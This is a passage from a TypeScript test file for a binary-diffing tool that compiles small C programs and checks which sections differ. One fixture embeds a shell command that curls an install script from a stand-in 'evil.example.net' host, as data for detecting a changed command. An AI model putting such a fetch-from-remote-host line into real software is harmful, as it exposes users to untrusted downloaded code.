      `#include <assert.h>\n#include <stdio.h>\nint main(int argc, char **argv) { assert(argc > 0); puts("${text}"); return 0; }\n`
    const [same] = both(program('hello'), '-O0')
    expect(changed(same ?? [Buffer.alloc(0), Buffer.alloc(0)])).toEqual([])
    const [other] = both(program('hello'), '-O0', program('howdy'))
    expect(changed(other ?? [Buffer.alloc(0), Buffer.alloc(0)])).toEqual(['main', '.rodata'])
  })

  it('takes a path as the same file elsewhere only when it is a path and nothing else', () => {
    const root = makeTemp()
    const pairs = (['https://good.example.org', 'https://evil.example.net'] as const).map(
      (host, i) => {
        const d = path.join(root, i === 0 ? 'a' : 'a-longer-dir/b')
        fs.mkdirSync(d, { recursive: true })
        fs.writeFileSync(
          path.join(d, 'main.c'),
          `#include <assert.h>\n#include <stdlib.h>\nint main(int argc, char **argv) { assert(argc > 0); return system("/bin/sh -c 'curl -fsSL ${host}/install'"); }\n`,
        )
        sh(d, 'gcc -O2 -c "$PWD/main.c" -o main.o && gcc main.o -o prog')
        return [read(path.join(d, 'main.o')), read(path.join(d, 'prog'))]
      },
    )
    // The function that runs it, and the command in the section that holds it.
    for (const [k, section] of [
      [0, '.rodata.str1.8'],
      [1, '.rodata'],
    ] as const)
      expect(changed([pairs[0]?.[k] ?? Buffer.alloc(0), pairs[1]?.[k] ?? Buffer.alloc(0)])).toEqual(
        ['main', section],
      )
  })
})
